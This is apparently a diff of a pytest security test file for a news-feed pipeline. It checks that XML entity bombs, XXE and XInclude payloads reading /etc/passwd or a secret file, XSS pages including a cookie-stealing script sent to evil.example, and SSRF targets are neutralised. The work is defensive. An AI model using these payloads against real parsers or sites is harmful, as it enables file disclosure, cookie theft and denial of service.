@@ -39,7 +39,7 @@ from typing import Any, ClassVar
 import pytest
 
 from pipeline.cli import main
-from pipeline.feeds import parse_feed
+from pipeline.parse.feeds import parse_feed
 
 
 class Listener:
@@ -84,15 +84,19 @@ def listener() -> Iterator[Listener]:
 
 # ------------------------------------------------------------------------------ feed bombs
 
+
 def _rss(doctype: str, title: str) -> str:
-    return ('<?xml version="1.0"?>\n' + doctype + '\n<rss version="2.0"><channel><title>T</title>'
-            f'<item><title>{title}</title><link>http://news.example/a</link></item>'
-            '</channel></rss>')
+    return (
+        '<?xml version="1.0"?>\n' + doctype + '\n<rss version="2.0"><channel><title>T</title>'
+        f"<item><title>{title}</title><link>http://news.example/a</link></item>"
+        "</channel></rss>"
+    )
 
 
 def bombs(port: int, secret: Path) -> dict[str, bytes]:
     laughs = '<!ENTITY lol0 "lol">' + "".join(
-        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
+        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
+    )
     big = "A" * 50_000
     quadratic = _rss(f'<!DOCTYPE rss [<!ENTITY a "{big}">]>', "&a;" * 20_000)
     many_short = _rss('<!DOCTYPE rss [<!ENTITY b "BBBBBBBBBB">]>', "&b;" * 150_000)
@@ -101,39 +105,39 @@ def bombs(port: int, secret: Path) -> dict[str, bytes]:
         "billion-laughs-atom": (
             f'<?xml version="1.0"?><!DOCTYPE feed [{laughs}]>'
             '<feed xmlns="http://www.w3.org/2005/Atom"><title>&lol9;</title><entry>'
-            '<title>&lol9;</title><link href="http://news.example/b"/></entry></feed>').encode(),
+            '<title>&lol9;</title><link href="http://news.example/b"/></entry></feed>'
+        ).encode(),
         "quadratic-blowup": quadratic.encode(),
-        "quadratic-blowup-utf16": quadratic.replace('version="1.0"', 'version="1.0" '
-                                                    'encoding="utf-16"').encode("utf-16"),
+        "quadratic-blowup-utf16": quadratic.replace(
+            'version="1.0"', 'version="1.0" encoding="utf-16"'
+        ).encode("utf-16"),
         "many-short-entities": many_short.encode(),
-        "xxe-file-passwd": _rss('<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
-                                "&x;").encode(),
-        "xxe-file-secret": _rss(f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{secret.as_uri()}">]>',
-                                "&x;").encode(),
-        "xxe-file-one-line": (  # a one-line DOCTYPE reaches expat as is (see pipeline.feeds)
+        "xxe-file-passwd": _rss('<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;").encode(),
+        "xxe-file-secret": _rss(f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{secret.as_uri()}">]>', "&x;").encode(),
+        "xxe-file-one-line": (  # a one-line DOCTYPE reaches expat as is (see pipeline.parse.feeds)
             f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
             '<rss version="2.0"><channel><title>&x;</title><item><title>&x;</title>'
-            '<link>http://news.example/e</link></item></channel></rss>').encode(),
-        "xxe-http": _rss(f'<!DOCTYPE rss [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/x">]>',
-                         "&x;").encode(),
+            "<link>http://news.example/e</link></item></channel></rss>"
+        ).encode(),
+        "xxe-http": _rss(f'<!DOCTYPE rss [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/x">]>', "&x;").encode(),
         "xxe-parameter-entity": _rss(
-            f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/p"> %p;]>',
-            "x").encode(),
-        "external-dtd": _rss(f'<!DOCTYPE rss SYSTEM "http://127.0.0.1:{port}/rss.dtd">',
-                             "x").encode(),
+            f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/p"> %p;]>', "x"
+        ).encode(),
+        "external-dtd": _rss(f'<!DOCTYPE rss SYSTEM "http://127.0.0.1:{port}/rss.dtd">', "x").encode(),
         "xxe-in-attribute-base": (
             f'<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
             '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="&x;"><entry><title>&x;</title>'
-            '<link href="http://news.example/c"/></entry></feed>').encode(),
+            '<link href="http://news.example/c"/></entry></feed>'
+        ).encode(),
         "xinclude": (
             '<?xml version="1.0"?><rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude">'
             f'<channel><item><title><xi:include href="{secret.as_uri()}" parse="text"/></title>'
-            f'<link>http://news.example/d</link></item></channel></rss>').encode(),
+            f"<link>http://news.example/d</link></item></channel></rss>"
+        ).encode(),
     }
 
 
-def test_feed_bombs_are_cheap_read_no_file_and_open_no_connection(tmp_path: Path,
-                                                                  listener: Listener) -> None:
+def test_feed_bombs_are_cheap_read_no_file_and_open_no_connection(tmp_path: Path, listener: Listener) -> None:
     secret = tmp_path / "secret.txt"
     secret.write_text("TOP-SECRET-7f3a9c\n")
     cases = bombs(listener.port, secret)
@@ -147,8 +151,10 @@ def test_feed_bombs_are_cheap_read_no_file_and_open_no_connection(tmp_path: Path
             _, peak = tracemalloc.get_traced_memory()
         finally:
             tracemalloc.stop()
-        report.append(f"{name}: {elapsed:.3f}s, peak {peak / 1e6:.1f} MB, "
-                      f"{len(result.entries)} entries, {result.bozo_reason}")
+        report.append(
+            f"{name}: {elapsed:.3f}s, peak {peak / 1e6:.1f} MB, "
+            f"{len(result.entries)} entries, {result.bozo_reason}"
+        )
         assert elapsed < 2.0, report[-1]
         assert peak < 100e6, report[-1]
         texts = [result.title or ""] + [(e.title or "") + e.url for e in result.entries]
@@ -199,8 +205,10 @@ KNOWN_UNSANITISED: set[tuple[str, str]] = set()  # none left: feed titles are sa
 
 def _page(title: str, paragraphs: list[str], extra_head: str = "", charset: str = "utf-8") -> str:
     body = "\n".join(f"<p>{p}</p>" for p in paragraphs)
-    return (f'<!DOCTYPE html><html><head><meta charset="{charset}"><title>{title}</title>'
-            f"{extra_head}</head><body><article><h1>{title}</h1>{body}</article></body></html>")
+    return (
+        f'<!DOCTYPE html><html><head><meta charset="{charset}"><title>{title}</title>'
+        f"{extra_head}</head><body><article><h1>{title}</h1>{body}</article></body></html>"
+    )
 
 
 def _vary(word: str) -> list[str]:
@@ -211,24 +219,34 @@ def hostile_pages() -> dict[str, tuple[str, bytes]]:
     """path -> (content type, body)."""
     script = _page(
         "Harbour <script>alert(1)</script> reopens",
-        [f'{p} <script>document.location="http://evil.example/?c="+document.cookie</script>'
-         for p in _vary("Northern")[:2]]
-        + [f'<span onclick="steal()">{_vary("Northern")[2]}</span>',
-           f'<a href="javascript:alert(1)" onmouseover="x()">{_vary("Northern")[3]}</a>'
-           '<img src=x onerror=alert(1)><iframe src="javascript:alert(2)"></iframe>'
-           '<svg onload=alert(3)></svg>'],
+        [
+            f'{p} <script>document.location="http://evil.example/?c="+document.cookie</script>'
+            for p in _vary("Northern")[:2]
+        ]
+        + [
+            f'<span onclick="steal()">{_vary("Northern")[2]}</span>',
+            f'<a href="javascript:alert(1)" onmouseover="x()">{_vary("Northern")[3]}</a>'
+            '<img src=x onerror=alert(1)><iframe src="javascript:alert(2)"></iframe>'
+            "<svg onload=alert(3)></svg>",
+        ],
         extra_head="<script>var tracker = 1;</script>"
-                   '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">')
+        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    )
     escaped = _page(
         "Breakwater &lt;script&gt;alert(1)&lt;/script&gt; works",
         [f"{p} &lt;script&gt;alert('x')&lt;/script&gt;" for p in _vary("Southern")[:2]]
-        + [f'&lt;a href=&quot;javascript:alert(1)&quot; onclick=&quot;x()&quot;&gt;'
-           f'{_vary("Southern")[2]}&lt;/a&gt;',
-           f"{_vary('Southern')[3]} &amp;lt;script&amp;gt;alert(2)&amp;lt;/script&amp;gt; "
-           "JaVaScRiPt&#58;alert(3) ONCLICK=alert(4)"])
-    nul = _page("Harbour\x00 reopens to\x00 boats",
-                [p.replace(" the ", " the\x00 ") for p in _vary("Western")]
-                + ["<scr\x00ipt>alert(1)</scr\x00ipt> java\x00script:alert(1) on\x00click=x"])
+        + [
+            f"&lt;a href=&quot;javascript:alert(1)&quot; onclick=&quot;x()&quot;&gt;"
+            f"{_vary('Southern')[2]}&lt;/a&gt;",
+            f"{_vary('Southern')[3]} &amp;lt;script&amp;gt;alert(2)&amp;lt;/script&amp;gt; "
+            "JaVaScRiPt&#58;alert(3) ONCLICK=alert(4)",
+        ],
+    )
+    nul = _page(
+        "Harbour\x00 reopens to\x00 boats",
+        [p.replace(" the ", " the\x00 ") for p in _vary("Western")]
+        + ["<scr\x00ipt>alert(1)</scr\x00ipt> java\x00script:alert(1) on\x00click=x"],
+    )
     bad_utf8 = _page("Eastern harbour reopens \xe9\xe8", _vary("Eastern")).encode("latin-1")
     bad_utf8 = bad_utf8.replace(b"repairs", b"rep\xc3\x28airs \xed\xa0\x80 \xf8\x88\x80\x80\x80")
     cp1251 = _page("Київ ремонтує міст", CYRILLIC, charset="windows-1251").encode("cp1251")
@@ -245,19 +263,29 @@ def hostile_pages() -> dict[str, tuple[str, bytes]]:
 
 
 def hostile_feed(base: str, pages: list[str]) -> bytes:
-    titles = ["&lt;script&gt;alert(1)&lt;/script&gt; Harbour reopens",
-              '<![CDATA[<a href="javascript:alert(1)" onclick="x()">Breakwater works</a>]]>',
-              "Harbour\x01 reopens"]
+    titles = [
+        "&lt;script&gt;alert(1)&lt;/script&gt; Harbour reopens",
+        '<![CDATA[<a href="javascript:alert(1)" onclick="x()">Breakwater works</a>]]>',
+        "Harbour\x01 reopens",
+    ]
     items = "".join(
         f"<item><title>{titles[i % len(titles)]}</title><link>{base}{path}</link>"
         f"<description>&lt;script&gt;alert({i})&lt;/script&gt;</description></item>"
-        for i, path in enumerate(pages))
-    items += ("<item><title>js link</title><link>javascript:alert(1)</link></item>"
-              "<item><title>data link</title><link>data:text/html,&lt;script&gt;x&lt;/script&gt;"
-              "</link></item>")
-    return (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
+        for i, path in enumerate(pages)
+    )
+    items += (
+        "<item><title>js link</title><link>javascript:alert(1)</link></item>"
+        "<item><title>data link</title><link>data:text/html,&lt;script&gt;x&lt;/script&gt;"
+        "</link></item>"
+    )
+    return (
+        (
+            f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
             f"<title>Hostile &lt;script&gt;x&lt;/script&gt; wire</title>{items}</channel></rss>"
-            ).encode("utf-8", "surrogatepass").replace(b"\x01", b"")
+        )
+        .encode("utf-8", "surrogatepass")
+        .replace(b"\x01", b"")
+    )
 
 
 class _Site(BaseHTTPRequestHandler):
@@ -304,8 +332,12 @@ def _text_columns(db: Path) -> Iterator[tuple[str, str, bytes]]:
     conn = sqlite3.connect(db)
     conn.text_factory = bytes
     try:
-        tables = [r[0].decode() for r in conn.execute(
-            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'")]
+        tables = [
+            r[0].decode()
+            for r in conn.execute(
+                "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
+            )
+        ]
         for table in tables:
             columns = [r[1].decode() for r in conn.execute(f'PRAGMA table_info("{table}")')]
             for column in columns:
@@ -328,21 +360,26 @@ def _problems(table: str, column: str, raw: bytes) -> list[str]:
         match = pattern.search(text)
         if match:
             at = match.start()
-            out.append(f"{table}.{column}: {label} in …{text[max(0, at - 40):at + 40]!r}")
+            out.append(f"{table}.{column}: {label} in …{text[max(0, at - 40) : at + 40]!r}")
     return out
 
 
 def _run_hostile(base: str, tmp_path: Path, store: str) -> str:
     reg = tmp_path / "sources.yaml"
-    reg.write_text(f"sources:\n  - name: hostile\n    kind: rss\n    url: {base}/feed.xml\n"
-                   "    delay: 0\n", encoding="utf-8")
+    reg.write_text(
+        f"sources:\n  - name: hostile\n    kind: rss\n    url: {base}/feed.xml\n    delay: 0\n",
+        encoding="utf-8",
+    )
     assert main(["run", "--sources", str(reg), "--store", store, "--allow-private-network"]) == 0
     return store
 
 
 def test_hostile_pages_leave_no_markup_or_bad_text_in_the_store(
-        hostile_site: tuple[str, dict[str, tuple[str, bytes]]], tmp_path: Path,
-        sqlite_url: str, capsys: pytest.CaptureFixture[str]) -> None:
+    hostile_site: tuple[str, dict[str, tuple[str, bytes]]],
+    tmp_path: Path,
+    sqlite_url: str,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
     base, pages = hostile_site
     _run_hostile(base, tmp_path, sqlite_url)
     out = capsys.readouterr().out
@@ -369,21 +406,25 @@ def test_hostile_pages_leave_no_markup_or_bad_text_in_the_store(
     assert not any(u.startswith(("javascript:", "data:")) for u in stored)
     assert "Міська рада Києва" in stored[base + "/a/cp1251.html"]
     assert "Engineers replaced" in stored[base + "/a/script.html"]
-    print(f"\nhostile pages tried: {len(pages)} (+1 hostile feed, 2 hostile links); "
-          f"{values} stored text values checked; known unsanitised: {len(known)}")
+    print(
+        f"\nhostile pages tried: {len(pages)} (+1 hostile feed, 2 hostile links); "
+        f"{values} stored text values checked; known unsanitised: {len(known)}"
+    )
 
 
 def test_feed_titles_are_sanitised_in_the_store(
-        hostile_site: tuple[str, dict[str, tuple[str, bytes]]], tmp_path: Path,
-        sqlite_url: str) -> None:
+    hostile_site: tuple[str, dict[str, tuple[str, bytes]]], tmp_path: Path, sqlite_url: str
+) -> None:
     base, _ = hostile_site
     db = Path(_run_hostile(base, tmp_path, sqlite_url).removeprefix("sqlite:///"))
-    found = [p for t, c, raw in _text_columns(db) if (t, c) in KNOWN_UNSANITISED
-             for p in _problems(t, c, raw)]
+    found = [
+        p for t, c, raw in _text_columns(db) if (t, c) in KNOWN_UNSANITISED for p in _problems(t, c, raw)
+    ]
     assert found == []
 
 
 # ------------------------------------------------------------------------------------ SSRF
+
 
 def ssrf_targets(port: int) -> dict[str, str]:
     return {
@@ -404,13 +445,22 @@ def ssrf_targets(port: int) -> dict[str, str]:
 
 
 def test_private_targets_are_refused_before_any_connection(
-        listener: Listener, tmp_path: Path, sqlite_url: str,
-        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    listener: Listener,
+    tmp_path: Path,
+    sqlite_url: str,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     targets = ssrf_targets(listener.port)
     reg = tmp_path / "sources.yaml"
-    reg.write_text("sources:\n" + "".join(
-        f"  - name: {name}\n    kind: rss\n    url: \"{url}\"\n    delay: 0\n"
-        for name, url in targets.items()), encoding="utf-8")
+    reg.write_text(
+        "sources:\n"
+        + "".join(
+            f'  - name: {name}\n    kind: rss\n    url: "{url}"\n    delay: 0\n'
+            for name, url in targets.items()
+        ),
+        encoding="utf-8",
+    )
     connects: list[object] = []
     real_connect = socket.socket.connect
 
